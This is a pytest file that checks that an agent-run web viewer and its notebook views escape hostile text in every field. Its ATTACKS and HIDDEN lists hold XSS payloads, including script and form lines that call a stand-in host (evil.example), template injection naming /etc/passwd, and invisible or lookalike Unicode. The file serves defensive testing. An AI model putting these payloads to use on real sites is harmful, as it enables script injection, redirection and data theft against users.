"""What models and tools write attacks nobody who looks at it: 300 payloads in every field.

A page with a payload in all fields has the very elements of one with a harmless word in them, each
with the same attributes, but for marks of what is hidden and cut. So no payload is markup, an
address, or a badge of ours.
"""

import types
import unicodedata
from collections.abc import Iterator, Sequence
from typing import Any, Final, Literal, Union, get_args, get_origin, get_type_hints

import httpx2
import msgspec
import pytest

from clew import Call, MemoryStore, Trajectory, Verdict, diff, read, tool
from clew import run as run_here
from clew.guards import Origin
from clew.interfaces import AnyEvent, Started, decode, encode
from clew.stores import store_at
from clew.testing import act, finish
from clew_serve import ServeConfig, application
from clew_serve.api.evaluation import EvaluationPage, EvaluationQuery
from clew_serve.api.prompts import SentPrompt
from clew_serve.api.trees import TreeRun
from clew_serve.pages.comparison import drawn_comparison
from clew_serve.pages.evaluation import drawn_evaluation
from clew_serve.pages.prompt import drawn_prompt
from clew_serve.pages.tree import drawn_tree
from tests.server.parsed_page import Element, Page, parsed
from tests.server.site import ROOT, Letters, agent
from tests.server.written_runs import write

HARMLESS: Final = "word"
DEEP: Final = 9

ATTACKS: Final = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input></form>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "` onfocus=alert(1)",
    "x onmouseover=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></article></main><h1>forged</h1>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<x>]]>",
    '<hx-partial hx-target="#status">answered</hx-partial>',
    "<div hx-get=//evil.example hx-trigger=load>",
    '<div hx-sse:connect="//evil.example">',
    '<template hx type="partial"><b>x</b></template>',
    '<span class="badge trust-trusted">trusted</span>',
    "<i class=sign>U+202E</i>",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "\\u003cscript\\u003e",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "]]></x>\r\n\r\ndata: forged\r\nid: 9\r\n\r\n",
)

HIDDEN: Final = (
    "\u202edetsurt\u202c",
    "\u2066a\u2069",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "a\u200da",
    "\u0000",
    "\x1b[31mred",
    "\x08\x08",
    "\u2028",
    "\u3164",
    "\U000e0041\U000e0042",
    "a\ufe01\ufe02",
    "z\u0335\u0336\u0337\u0338\u0339",
    "p\u0430yp\u0430l",
    "\x9b2J",
)


def payloads() -> list[str]:
    """300: each attack as it is, behind what hides it, in capitals, twice encoded; some long."""
    forms = [
        *ATTACKS,
        *HIDDEN,
        *(one + two for one, two in zip(HIDDEN * 3, ATTACKS, strict=False)),
        *(each.upper() for each in ATTACKS),
        *(each.replace("<", "%3C") for each in ATTACKS),
        *(each.replace("<", "&#60;") for each in ATTACKS),
        *(f"# {each} [x]({each})" for each in ATTACKS),
        *(f"\u202e\n{each}\t\u2069" for each in ATTACKS),
        *(f"{each}\u200b" for each in ATTACKS),
        *(f"{each}\n" * 1_500 for each in ATTACKS[:6]),
        *("A" * 50_000 + each for each in HIDDEN[:4]),
    ]
    return [*dict.fromkeys(forms)][-300:]


def filled(kind: Any, text: str, depth: int = 0) -> Any:
    """A value of a type, as JSON has it, with the text wherever one may be."""
    origin, arguments = get_origin(kind), get_args(kind)
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
        return _struct(kind, text, depth)
    if origin is Literal:
        return arguments[-1]
    if origin in {Union, types.UnionType}:
        real = [it for it in arguments if it is not type(None)]
        if str in real:
            return text
        return filled(real[0], text, depth) if depth < DEEP else None
    if origin is tuple and ... not in arguments:
        return [filled(each, text, depth) for each in arguments]
    if origin in {tuple, list}:
        return [filled(arguments[0], text, depth)] if depth < DEEP else []
    if origin is dict:
        return {text: filled(arguments[1], text, depth)} if depth < DEEP else {}
    return {str: text, bytes: "", int: 1, float: 0.5, bool: True}.get(kind, text)


def _struct(kind: type[msgspec.Struct], text: str, depth: int) -> dict[str, Any]:
    hints = get_type_hints(kind)
    config = kind.__struct_config__
    tag = {config.tag_field: config.tag} if config.tag_field else {}
    fields = {
        it.encode_name: filled(hints[it.name], text, depth + 1)
        for it in msgspec.structs.fields(kind)
        if not it.name.endswith("blob")  # no store has it, and a reader would look for it
    }
    return {**tag, **fields}


def events(text: str) -> list[AnyEvent]:
    """One of each kind, with the text in every field that can hold it."""
    kinds = sorted(get_args(AnyEvent), key=lambda kind: (kind is not Started, kind.__name__))
    made = [decode(encode({**filled(kind, text), "schema": 1})) for kind in kinds]
    assert {type(event) for event in made} == {*kinds}
    return made


def outline(page: Page) -> Iterator[tuple[str, tuple[str, ...]]]:
    """The elements with the names of their attributes, but for marks of hidden and cut text."""
    for each in page.elements:
        if not _is_mark(each):
            yield each.tag, (*each.attributes, *(f".{name}" for name in each.classes))


def _is_mark(each: Element) -> bool:
    address = each.attributes.get("href", "")
    leads_to_entry = address.startswith("/api/runs/") and address.endswith("limit=1")
    return bool({"sign", "cut", "entire"} & {*each.classes}) or leads_to_entry


def invisible(text: str) -> list[str]:
    return [
        it
        for it in text
        if it not in "\n\t" and unicodedata.category(it) in {"Cc", "Cf", "Zl", "Zp", "Co"}
    ]


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    """What uvicorn runs on."""
    return "asyncio"


async def pages(text: str) -> list[str]:
    """The list of runs, and the pages of a run, a prompt, a tree and an evaluation, with a text in
    every field.
    """
    async with store_at("memory:") as store:
        await write(store, "hostile", events(text))
        config = ServeConfig(store=store, users=[ROOT])
        async with application(config) as app:
            transport = httpx2.ASGITransport(app=app)
            headers = {"authorization": f"Bearer {ROOT.token}"}
            async with httpx2.AsyncClient(transport=transport, base_url="http://localhost") as http:
                answers = [await http.get(it, headers=headers) for it in ("/", "/runs/hostile")]
    assert [it.status_code for it in answers] == [200, 200], text[:100]
    sent = msgspec.convert(filled(SentPrompt, text), SentPrompt)
    tree = msgspec.convert(filled(TreeRun, text), TreeRun)
    seen = msgspec.convert({**filled(EvaluationPage, text), "missing": ""}, EvaluationPage)
    trials = [
        drawn_evaluation(each, EvaluationQuery(failure=text))
        for each in (seen, msgspec.structs.replace(seen, counts=None))
    ]
    return [*(it.text for it in answers), drawn_prompt(sent), drawn_tree(tree), *trials]


@pytest.mark.slow
async def test_no_payload_in_any_field_is_more_than_text() -> None:
    tried = payloads()
    assert len({*tried}) == 300
    expected = [[*outline(parsed(text))] for text in await pages(HARMLESS)]
    for payload in tried:
        for text, like in zip(await pages(payload), expected, strict=True):
            page = parsed(text)
            assert [*outline(page)] == like, payload[:100]
            assert invisible(text) == [], payload[:100]
            assert all(it.startswith(("/", "#", "data:,")) for it in page.addresses), payload[:100]
            assert not [it for it in page.addresses if it.startswith("//")]
            assert len(text) < 1_000_000


async def inbox(texts: Sequence[str]) -> str:
    """The inbox with a held call for each text, which is its argument, its reason and its title."""
    async with store_at("memory:") as store:
        for text in texts:

            async def hold(
                call: Call, trajectory: Trajectory, *, why: str = text
            ) -> Verdict | None:
                """Every letter is held, for this reason."""
                origin = Origin("result", call="1.1", tool=why, field=why, doubtful=True)
                held = call.action.name == "send"
                return Verdict("hold", why, origins={"text": (origin,)}) if held else None

            one = agent([act("send", text=text)], [Letters().tool], guards=[hold])
            await run_here(one, f"{text}?", store=store)
        async with application(ServeConfig(store=store, users=[ROOT])) as app:
            transport = httpx2.ASGITransport(app=app)
            headers = {"authorization": f"Bearer {ROOT.token}"}
            async with httpx2.AsyncClient(transport=transport, base_url="http://localhost") as http:
                return (await http.get("/inbox", headers=headers)).text


@pytest.mark.slow
async def test_no_payload_in_a_held_call_is_more_than_text() -> None:
    tried = [*ATTACKS, *HIDDEN]
    text = await inbox(tried)
    page, like = parsed(text), parsed(await inbox([HARMLESS] * len(tried)))
    assert len(page.having("decide")) == len(tried)
    assert [*outline(page)] == [*outline(like)]
    assert invisible(text) == []
    assert all(it.startswith(("/", "#", "data:,")) for it in page.addresses)


async def side_by_side(text: str) -> str:
    """Two runs that part: one has a text in its question, call, result and answer."""
    store = MemoryStore()
    records = list[Trajectory]()
    for words in (text, "other"):
        script = [act("echo", text=words), finish(f"So: {words}")]
        done = await run_here(agent(script, [echo]), f"{words}?", store=store)
        records.append(await read(done.run_id, store=store))
    return drawn_comparison(diff(*records), 0)


@tool(effect="read")
def echo(text: str) -> str:
    """Echo."""
    return f"{text}!"


@pytest.mark.slow
async def test_no_payload_in_a_run_beside_another_is_more_than_text() -> None:
    like = [*outline(parsed(await side_by_side(HARMLESS)))]
    for payload in (*ATTACKS, *HIDDEN):
        text = await side_by_side(payload)
        assert [*outline(parsed(text))] == like, payload
        assert invisible(text) == [], payload


async def tables(text: str) -> list[str]:
    """What a notebook shows of an agent, a result, a run and its steps, with a text in each."""
    store = MemoryStore()
    script = [act("echo", thought=f"Well: {text}", text=text), finish(f"So: {text}")]
    named = agent(script, [echo], prompt=text)
    result = await run_here(named, f"{text}?", store=store)
    record = await read(result.run_id, store=store)
    return [it._repr_html_() for it in (named, result, record, *record.steps)]


@pytest.mark.slow
async def test_no_payload_in_a_notebook_is_more_than_text() -> None:
    like = [[*outline(parsed(text))] for text in await tables(HARMLESS)]
    for payload in payloads():
        texts = await tables(payload)
        tried = [*map(parsed, texts)]
        assert [[*outline(page)] for page in tried] == like, payload[:100]
        assert [page.addresses for page in tried] == [[]] * len(tried)
        assert [it for text in texts for it in invisible(text)] == [], payload[:100]
